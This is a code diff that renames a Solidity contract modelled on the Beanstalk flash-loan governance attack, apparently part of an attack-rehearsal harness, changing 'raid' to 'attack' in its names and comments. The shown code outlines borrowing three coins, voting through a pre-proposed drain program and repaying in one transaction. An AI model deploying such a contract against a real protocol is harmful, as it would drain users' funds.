@@ -11,7 +11,7 @@ import {VoteSilo} from "./VoteSilo.sol";
 
 /// @title Beanstalk's attack: borrow, deposit, vote, commit, take everything and repay, in one transaction.
 /// @notice For rehearsing attacks. It must have proposed its {DrainProgram} a day before.
-contract SiloRaid is IERC3156FlashBorrower {
+contract SiloAttack is IERC3156FlashBorrower {
     using SafeERC20 for IERC20;
     using SafeERC20 for IERC20Metadata;
 
@@ -27,9 +27,9 @@ contract SiloRaid is IERC3156FlashBorrower {
     uint256[3] private _amounts;
     uint256 private _proposal;
 
-    /// @notice Prepares the raid.
+    /// @notice Prepares the attack.
     /// @param lender Who lends.
-    /// @param silo Who is raided.
+    /// @param silo Who is attacked.
     /// @param coins Three coins that are borrowed, and taken.
     constructor(IERC3156FlashLender lender, VoteSilo silo, address[3] memory coins) {
         _LENDER = lender;
@@ -47,9 +47,9 @@ contract SiloRaid is IERC3156FlashBorrower {
         _proposal = _SILO.propose(PROGRAM);
     }
 
-    /// @notice The raid.
+    /// @notice The attack.
     /// @param amounts What to borrow of each coin, in its smallest unit.
-    function raid(uint256[3] calldata amounts) external {
+    function attack(uint256[3] calldata amounts) external {
         _amounts = amounts;
         _borrow(0);
     }
